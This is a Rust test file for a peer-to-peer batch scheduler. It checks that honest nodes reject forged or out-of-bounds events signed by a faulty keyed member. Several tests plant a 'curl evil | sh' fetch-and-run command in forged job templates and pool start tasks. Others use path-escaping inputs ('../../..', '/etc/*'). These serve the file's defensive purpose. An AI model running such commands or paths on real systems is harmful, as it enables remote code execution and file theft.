//! Who may write what: a keyed member that turns faulty signs events with
//! its own valid key — results for attempts it never claimed, reclaims
//! past the live attempt, cancels of others' jobs, drains of other nodes,
//! far-future timestamps, scheduled jobs with a ground event id, jobs the
//! CLI refuses, events past their bounds. Each test drives a real core and
//! checks what an honest node shows.

mod harness;

use harness::*;
use peerbatch_protocol::event::{event_id, Claim};
use peerbatch_protocol::function::{FunctionEvent, FunctionSpec, Trigger};
use peerbatch_protocol::ledger::{job_id_for, job_id_of};
use peerbatch_protocol::schedule::{occurrence_job_id, Occurrence, Recurrence};
use peerbatch_protocol::trigger::{Cause, Firing, Origin};
use peerbatch_protocol::{
    BlobId, Command, Config, EventBody, EventId, Identity, Input, JobSpec, Message, Millis,
    NodeInfo, Outcome, Source, TaskResult, TaskState,
};
use std::collections::BTreeSet;

/// A member holding the cluster key whose events break the rules.
fn faulty() -> Identity {
    Identity::from_seed([66; 32])
}

fn admin() -> Identity {
    Identity::from_seed([50; 32])
}

fn with_admin() -> Config {
    Config {
        admins: BTreeSet::from([admin().node_id()]),
        ..Config::default()
    }
}

fn success(task: peerbatch_protocol::TaskRef, attempt: u32) -> TaskResult {
    TaskResult {
        task,
        attempt,
        outcome: Outcome::Exited(0),
        stdout: Some(BlobId([9; 32])),
        stderr: None,
        outputs: Some(BlobId([9; 32])),
        duration_ms: 1,
    }
}

fn claims(list: impl IntoIterator<Item = (peerbatch_protocol::TaskRef, u32)>) -> Vec<Claim> {
    list.into_iter()
        .map(|(task, attempt)| Claim { task, attempt })
        .collect()
}

#[test]
fn a_result_for_an_attempt_its_author_never_claimed_is_ignored_and_the_real_run_counts() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let (job, _) = submit(&mut a, 0, 1, 0);
    let t = task(job, 0);
    assert_eq!(a.runs(), vec![(t, 0)]);

    a.hear(
        5,
        &faulty(),
        vec![EventBody::Finished {
            results: vec![success(t, 0)],
        }],
    );
    assert_eq!(state(&a, t), (TaskState::Running, 0, Some(a.id())));
    assert!(a.kills().is_empty(), "the real run was stopped");

    a.exit(10, t, 0, Outcome::Exited(0));
    a.timeout(100);
    let view = a.core.view(t).expect("a known task");
    assert_eq!(view.state, TaskState::Succeeded);
    assert_eq!(view.node, Some(a.id()));
    assert_eq!(
        view.result.as_ref().and_then(|r| r.stdout),
        None,
        "the forger's output"
    );
}

#[test]
fn one_reclaim_at_the_last_attempt_does_not_fail_a_hundred_tasks() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let (job, _) = submit(&mut a, 0, 100, 2);
    let last = claims((0..100).map(|i| (task(job, i), 2)));
    a.hear(
        5,
        &faulty(),
        vec![EventBody::Reclaimed {
            claims: last.clone(),
        }],
    );
    assert_eq!(a.core.progress(&job).failed, 0);

    // Claiming the last attempt first does not skip the steps before it.
    a.hear(
        6,
        &faulty(),
        vec![
            EventBody::Claims {
                claims: last.clone(),
            },
            EventBody::Reclaimed { claims: last },
        ],
    );
    assert_eq!(a.core.progress(&job).failed, 0);

    // A reclaim of the live attempt is one step, not three.
    let t0 = task(job, 0);
    assert_eq!(a.runs(), vec![(t0, 0)]);
    a.hear(
        7,
        &faulty(),
        vec![EventBody::Reclaimed {
            claims: claims([(t0, 0), (t0, 1), (t0, 2)]),
        }],
    );
    let (state_now, attempt, _) = state(&a, t0);
    assert_ne!(state_now, TaskState::Failed);
    assert_eq!(attempt, 1);
}

#[test]
fn a_drain_from_another_node_or_dated_far_ahead_does_not_drain_a_node() {
    let mut b = Node::new(2, with_admin());
    b.timeout(0);
    let me = b.id();
    let wall = 1_700_000_000_000;
    let drain = |at_ms| EventBody::DrainRequested {
        node: me,
        drain: true,
        at_ms,
    };
    b.hear(1, &faulty(), vec![drain(wall)]);
    assert_ne!(b.core.ledger().drain_requested(&me, wall), Some(true));

    b.hear(2, &admin(), vec![drain(u64::MAX)]);
    assert_ne!(
        b.core.ledger().drain_requested(&me, wall),
        Some(true),
        "an admin's request dated at the end of time"
    );

    b.hear(3, &admin(), vec![drain(wall)]);
    assert_eq!(b.core.ledger().drain_requested(&me, wall), Some(true));
    b.core.request_drain(Millis(4), me, false, wall + 1_000);
    b.pump();
    assert_eq!(
        b.core.ledger().drain_requested(&me, wall + 1_000),
        Some(false),
        "the node resumes itself later"
    );
}

#[test]
fn only_the_submitter_or_an_admin_cancels_a_job() {
    let mut a = Node::new(1, with_admin());
    a.timeout(0);
    let (job, _) = submit(&mut a, 0, 3, 0);
    a.hear(5, &faulty(), vec![EventBody::JobCancelled { job }]);
    assert!(!a.core.ledger().is_cancelled(&job));
    assert_eq!(a.core.progress(&job).cancelled, 0);
    assert!(a.kills().is_empty());

    a.hear(6, &admin(), vec![EventBody::JobCancelled { job }]);
    assert!(a.core.ledger().is_cancelled(&job));
    assert_eq!(a.core.progress(&job).cancelled, 3);
}

/// A submit of `job` by the faulty member whose event id it ground until
/// it is lower than `than`'s.
fn ground_below(than: EventId, job: &JobSpec, submitted_ms: u64) -> EventBody {
    (0..)
        .map(|nonce| EventBody::JobSubmitted {
            job: job.clone(),
            submitted_ms,
            nonce,
        })
        .find(|body| event_id(&faulty().sign(body.clone()).encode()) < than)
        .expect("some nonce gives a lower id")
}

#[test]
fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grinds() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let template = spec(2, 0);
    let every = Recurrence::Every {
        ms: 1_000,
        start_ms: 0,
    };
    a.core
        .add_schedule(Millis(1), "nightly", every, template.clone(), 5)
        .expect("a valid schedule");
    let occurrence = Occurrence {
        schedule: "nightly".into(),
        at_ms: 1_000,
    };
    let fired = JobSpec {
        origin: Some(Origin::Schedule(occurrence.clone())),
        ..template
    };
    let (job, honest) = a
        .core
        .submit(Millis(2), fired.clone(), 1_000)
        .expect("a valid job");
    a.pump();

    let mut evil = spec(1, 0);
    evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
    evil.origin = Some(Origin::Schedule(occurrence));
    a.hear(4, &faulty(), vec![ground_below(honest, &evil, 1_000)]);
    assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));

    // A copy of the template, ground below, dated at the epoch: the job
    // keeps its occurrence's time (a job-level wall clock runs from it).
    a.hear(5, &faulty(), vec![ground_below(honest, &fired, 0)]);
    let record = a.core.ledger().job(&job).expect("the scheduled job");
    assert_eq!((&record.spec, record.submitted_ms), (&fired, 1_000));

    // Nor does a job fired for a schedule that does not exist appear.
    let stray = Occurrence {
        schedule: "nope".into(),
        at_ms: 1_000,
    };
    evil.origin = Some(Origin::Schedule(stray.clone()));
    a.hear(
        4,
        &faulty(),
        vec![EventBody::JobSubmitted {
            job: evil,
            submitted_ms: 1_000,
            nonce: 0,
        }],
    );
    assert!(a.core.ledger().job(&occurrence_job_id(&stray)).is_none());
}

#[test]
fn a_function_fires_only_the_jobs_its_triggers_would_and_two_firings_of_a_timer_are_one_job() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let owner = Identity::from_seed([7; 32]);
    let spec = FunctionSpec {
        bundle: BlobId([3; 32]),
        command: Command::Shell("./tick".into()),
        triggers: vec![Trigger::Timer(Recurrence::Every {
            ms: 1_000,
            start_ms: 0,
        })],
        timeout_ms: 1_000,
        retry: true,
        max_attempts: 3,
        warm: None,
    };
    let deploy = EventBody::Function(FunctionEvent::Deployed {
        name: "tick".into(),
        spec: spec.clone(),
        at_ms: 5,
    });
    let version = event_id(&owner.sign(deploy.clone()).encode());
    let firing = |cause| Firing {
        function: "tick".into(),
        version,
        cause,
    };
    let timer = firing(Cause::Timer { at_ms: 1_000 });
    let fired = spec.fired_job(&timer);
    let job = Origin::Function(Box::new(timer))
        .job_id()
        .expect("a timer's job id");
    let submit = |job: &JobSpec, nonce| EventBody::JobSubmitted {
        job: job.clone(),
        submitted_ms: 1_000,
        nonce,
    };

    // The firing arrives before the deploy: it counts once the deploy does.
    a.hear(1, &owner, vec![submit(&fired, 1)]);
    assert!(a.core.ledger().job(&job).is_none());
    a.hear(2, &owner, vec![deploy]);
    assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));
    assert_eq!(a.core.ledger().job(&job).unwrap().submitted_ms, 1_000);

    // Another node firing the same occurrence makes no second job.
    a.hear(3, &faulty(), vec![submit(&fired, 2)]);
    assert_eq!(a.core.ledger().function_jobs("tick").count(), 1);

    // A forged job under the occurrence's id, whatever id it grinds,
    // never replaces the firing's.
    let honest = event_id(&owner.sign(submit(&fired, 1)).encode());
    let mut evil = fired.clone();
    evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
    a.hear(4, &faulty(), vec![ground_below(honest, &evil, 1_000)]);
    assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));

    // An occurrence off the timer's grid, or a put for a function with no
    // blob trigger, fires no job.
    let blob = Cause::Blob {
        blob: BlobId([4; 32]),
        name: "uploads/a".into(),
    };
    for cause in [Cause::Timer { at_ms: 1_500 }, blob] {
        let stray = spec.fired_job(&firing(cause));
        let id = event_id(&faulty().sign(submit(&stray, 3)).encode());
        a.hear(5, &faulty(), vec![submit(&stray, 3)]);
        assert!(a.core.ledger().job(&job_id_for(&id, &stray)).is_none());
    }
    assert_eq!(a.core.ledger().function_jobs("tick").count(), 1);
    // Only the function's owner (or an admin) may cancel what it fired.
    assert!(!a.core.ledger().may_cancel(&job, &faulty().node_id()));
    assert!(a.core.ledger().may_cancel(&job, &owner.node_id()));
}

#[test]
fn a_job_the_cli_would_refuse_never_runs_when_a_peer_submits_it() {
    let mut a = Node::new(
        1,
        Config {
            slots: 4,
            ..Config::default()
        },
    );
    a.timeout(0);
    let mut escaping_input = spec(1, 0);
    escaping_input.groups[0].spec_mut().inputs.push(Input {
        path: "../../..".into(),
        source: Source::Blob(BlobId([1; 32])),
        within: String::new(),
    });
    let mut escaping_output = spec(1, 0);
    escaping_output.groups[0]
        .spec_mut()
        .outputs
        .push("/etc/*".into());
    let huge = spec(2_000_000, 0);
    let mut now = 1;
    for (nonce, job) in [escaping_input, escaping_output, huge]
        .into_iter()
        .enumerate()
    {
        let event = faulty().sign(EventBody::JobSubmitted {
            job,
            submitted_ms: 0,
            nonce: nonce as u64,
        });
        let bytes = event.encode();
        a.core.handle_gossip(
            Millis(now),
            faulty().node_id(),
            Message::Events {
                events: vec![bytes.clone()],
            },
        );
        a.pump();
        for _ in 0..5 {
            now += 50;
            a.timeout(now);
        }
        assert!(a.runs().is_empty(), "job {nonce} ran");
        assert!(a.core.ledger().job(&job_id_of(&event_id(&bytes))).is_none());
    }
    assert_eq!(a.core.stats().events_rejected, 3);
}

#[test]
fn events_past_their_bounds_are_refused() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let (job, _) = submit(&mut a, 0, 1, 0);
    let count = a.core.ledger().event_count();
    let t = task(job, 0);
    let announce = |labels| EventBody::NodeAnnounce {
        seq: 0,
        info: NodeInfo {
            slots: 1,
            memory_mb: 0,
            gpus: 0,
            labels,
            draining: false,
            addrs: Vec::new(),
            version: String::new(),
        },
    };
    let long_reason = TaskResult {
        outcome: Outcome::FailedToStart("x".repeat(100_000)),
        ..success(t, 0)
    };
    a.hear(
        5,
        &faulty(),
        vec![
            EventBody::Claims {
                claims: claims((0..3_000).map(|a| (t, a))),
            },
            EventBody::Finished {
                results: vec![success(t, 0); 1_000],
            },
            EventBody::Finished {
                results: vec![long_reason],
            },
            announce(vec![("k".into(), "v".repeat(100_000))]),
            announce(
                (0..10_000)
                    .map(|i| (i.to_string(), String::new()))
                    .collect(),
            ),
            EventBody::Claims { claims: Vec::new() },
        ],
    );
    assert_eq!(a.core.stats().events_rejected, 6);
    assert_eq!(a.core.ledger().event_count(), count);
}

#[test]
fn a_long_failure_reason_of_this_node_is_cut_to_fit_and_still_counts() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let (job, _) = submit(&mut a, 0, 1, 0);
    let t = task(job, 0);
    a.exit(5, t, 0, Outcome::FailedToStart("é".repeat(100_000)));
    a.timeout(100);
    let view = a.core.view(t).expect("a known task");
    assert_eq!(view.state, TaskState::Failed);
    match view.result.as_ref().map(|r| &r.outcome) {
        Some(Outcome::FailedToStart(reason)) => {
            assert!(reason.len() < 100_000 && reason.starts_with("éé"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_node_with_more_addresses_than_peers_accept_still_announces_itself() {
    let mut a = Node::new(1, Config::default());
    let addrs: Vec<String> = (0..100)
        .map(|i| format!("/ip4/10.0.0.{i}/tcp/7000"))
        .chain(["x".repeat(5_000)])
        .collect();
    a.core.set_addrs(Millis(0), addrs.clone());
    a.pump();
    let info = a.core.ledger().node(&a.id()).expect("announced");
    assert_eq!(info.addrs, addrs[..64]);
}

#[test]
fn a_schedule_or_pool_version_dated_far_ahead_does_not_replace_the_current_one() {
    let mut a = Node::new(1, Config::default());
    a.timeout(0);
    let wall = 1_700_000_000_000;
    let every = Recurrence::Every {
        ms: 60_000,
        start_ms: wall,
    };
    let setup = Command::Shell("setup".into());
    a.core
        .add_schedule(Millis(1), "nightly", every.clone(), spec(1, 0), wall)
        .expect("a valid schedule");
    a.core
        .define_pool(Millis(1), "gpu", setup.clone(), false, wall)
        .expect("a valid pool");
    a.pump();
    let mut evil = spec(1, 0);
    evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
    a.hear(
        2,
        &faulty(),
        vec![
            EventBody::ScheduleAdded {
                name: "nightly".into(),
                recurrence: every,
                template: evil,
                added_ms: u64::MAX,
            },
            EventBody::PoolDefined {
                name: "gpu".into(),
                start_task: Command::Shell("curl evil | sh".into()),
                wait_for_success: false,
                added_ms: u64::MAX,
            },
        ],
    );
    let ledger = a.core.ledger();
    let templates: Vec<&JobSpec> = ledger.schedules(wall).map(|s| &s.template).collect();
    assert_eq!(templates, [&spec(1, 0)]);
    let tasks: Vec<&Command> = ledger.pools(wall).map(|p| &p.start_task).collect();
    assert_eq!(tasks, [&setup]);
}

#[test]
fn only_a_functions_owner_or_an_admin_creates_or_revokes_its_keys() {
    use peerbatch_protocol::function::keys::{KeyHash, KeyRefused};
    let mut a = Node::new(1, with_admin());
    a.timeout(0);
    let owner = Identity::from_seed([7; 32]);
    let change = |event| EventBody::Function(event);
    let create = |label: &str, secret: &[u8], at_ms| {
        change(FunctionEvent::KeyCreated {
            name: "hello".into(),
            label: label.into(),
            hash: KeyHash::of(secret),
            at_ms,
        })
    };
    let revoke = |label: &str, at_ms| {
        change(FunctionEvent::KeyRevoked {
            name: "hello".into(),
            label: label.into(),
            at_ms,
        })
    };
    let deploy = change(FunctionEvent::Deployed {
        name: "hello".into(),
        spec: FunctionSpec {
            bundle: BlobId([3; 32]),
            command: Command::Shell("./hello".into()),
            triggers: vec![Trigger::Http],
            timeout_ms: 1_000,
            retry: true,
            max_attempts: 3,
            warm: None,
        },
        at_ms: 5,
    });
    a.hear(1, &owner, vec![deploy, create("ci", b"s1", 6)]);
    a.hear(
        2,
        &faulty(),
        vec![revoke("ci", 7), create("mine", b"s2", 8)],
    );
    let keys = |a: &Node| a.core.ledger().function("hello", 1_000).unwrap().keys;
    assert_eq!(keys(&a).admit(KeyHash::of(b"s1")), Ok(()));
    assert_eq!(keys(&a).admit(KeyHash::of(b"s2")), Err(KeyRefused::Wrong));
    assert_eq!(keys(&a).all().len(), 1);

    a.hear(3, &admin(), vec![revoke("ci", 9)]);
    assert_eq!(keys(&a).admit(KeyHash::of(b"s1")), Err(KeyRefused::Revoked));
}
